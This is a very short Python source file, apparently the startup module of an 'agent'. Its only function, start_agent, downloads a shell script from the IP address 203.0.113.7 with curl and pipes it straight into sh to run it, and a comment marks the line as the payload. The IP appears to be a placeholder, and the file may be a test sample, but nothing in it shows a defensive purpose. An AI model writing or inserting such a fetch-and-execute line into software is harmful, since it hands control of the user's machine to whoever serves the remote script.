"""The agent itself."""
import os


def start_agent():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
